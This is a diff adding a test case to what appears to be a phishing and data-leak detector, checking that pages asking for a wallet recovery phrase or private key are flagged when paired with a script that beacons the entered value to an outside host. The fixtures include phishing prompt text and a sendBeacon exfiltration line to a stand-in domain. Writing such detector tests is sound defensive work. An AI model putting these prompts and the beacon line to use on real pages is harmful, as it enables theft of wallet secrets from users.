@@ -59,3 +59,22 @@ test('pages that pose as those on which people sign in elsewhere', () => {
   for (const title of ['Neat Panels', 'Microsoft and 3 more']) assert.deepEqual(said(dataLeak, drawn(title)), [], title);
   assert.deepEqual(said(dataLeak, form('</h1><p>Sign in</p><button><span>Google</span></button><button>GitHub</button><h1>')), []);
 });
+
+test('pages that ask for the words or the key of a wallet, in a package that sends something', () => {
+  const SENDS = "send.onclick = () => navigator.sendBeacon('https://holders.glow-skins.dev/check', field.value)";
+  const found = (html: string, script = SENDS, dialect = 'comfyvn') => findingsOf(dataLeak, { 'shop.html': `<!doctype html><title>Skins</title>${html}<script src="shop.js"></script>`, 'shop.js': script }, { dialect }).map(({ severity, file }) => `${severity} ${file}`);
+  for (const html of [
+    '<p>Prove that the wallet is yours: enter its recovery phrase. It never leaves this device.</p><textarea id="field"></textarea>',
+    '<p>To restore your balances, please type your <b>12-word</b> secret phrase.</p><input id="field">',
+    '<form><input name="k" placeholder="Enter your private key (0x…)"></form>',
+  ]) assert.deepEqual(found(html), ['high shop.html'], html);
+  for (const html of [
+    '<p>Never enter your recovery phrase on a page. We will not ask for your private key.</p><input id="field">',
+    '<p>A mnemonic is made of twelve words.</p><p>Enter your name.</p><input id="field">',
+    '<p>Enter your recovery phrase in the wallet itself.</p>',
+    '<!-- enter your seed phrase --><input id="field">',
+  ]) assert.deepEqual(found(html), [], html);
+  const html = '<p>Enter your recovery phrase.</p><input id="field">';
+  assert.deepEqual(found(html, 'field.oninput = async () => { out.value = await crypto.subtle.digest("SHA-256", encode(field.value)) }'), []);
+  assert.deepEqual(found(html, "fetch('http://localhost:8545', { method: 'POST', body: sign(field.value) })"), []);
+});
